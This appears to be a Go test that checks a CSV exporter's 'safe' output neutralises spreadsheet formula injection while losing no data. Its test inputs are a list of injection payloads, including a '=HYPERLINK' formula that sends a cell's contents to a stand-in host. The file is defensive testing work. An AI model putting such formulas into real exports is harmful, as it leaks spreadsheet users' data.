package export_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/assay-register/assay/render/export"
	"github.com/assay-register/assay/render/export/exporttest"
	"github.com/assay-register/assay/render/snapshot"
	"github.com/assay-register/assay/render/spreadsheet"
	"github.com/assay-register/assay/render/spreadsheet/spreadsheettest"
)

// formulas are texts that a spreadsheet runs.
var formulas = []string{"=HYPERLINK(\"https://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\"=1", "＝1", "'=1", "list:\n- one\n- two", "rain;=1"}

// TestSafeCSV holds that no spreadsheet runs a cell of the safe file, though the
// plain one has some, and that nothing is lost in it.
func TestSafeCSV(t *testing.T) {
	t.Parallel()
	rows := exporttest.Many(len(formulas))
	for i := range rows {
		e := &rows[i].Entry
		e.Name, e.Description, e.Tags = formulas[i], formulas[i], []string{"rain", "@tag", "=1"}
	}
	c := exporttest.Freeze(t, rows)
	files := render(t, c)
	runs := 0
	for cells, err := range export.FullRows(c) {
		if err != nil {
			t.Fatal(err)
		}
		if spreadsheettest.Runs(*cells[1]) {
			runs++
		}
	}
	if runs < 8 {
		t.Errorf("the plain file has only %d names that are run", runs)
	}
	spreadsheettest.NoFormula(t, string(files[export.RouteSafe]))
	spreadsheettest.NoFormula(t, string(files[export.RouteFullSafe]))
	sameWhenUnescaped(t, files, c)
}

// sameWhenUnescaped compares the safe file with the plain one.
func sameWhenUnescaped(t testing.TB, files map[string][]byte, c *snapshot.Catalog) {
	t.Helper()
	safe := exporttest.ReadCSVCells(t, files[export.RouteSafe])
	for _, row := range safe {
		for i := range row {
			row[i] = spreadsheet.Unescape(row[i])
		}
	}
	plain := exporttest.ReadCSVCells(t, files[export.RouteCSV])
	if d := cmp.Diff(plain, safe); d != "" || len(plain) != len(c.Lines)+1 {
		t.Errorf("%d rows of %d entries; the safe file differs:\n%s", len(plain), len(c.Lines), d)
	}
}
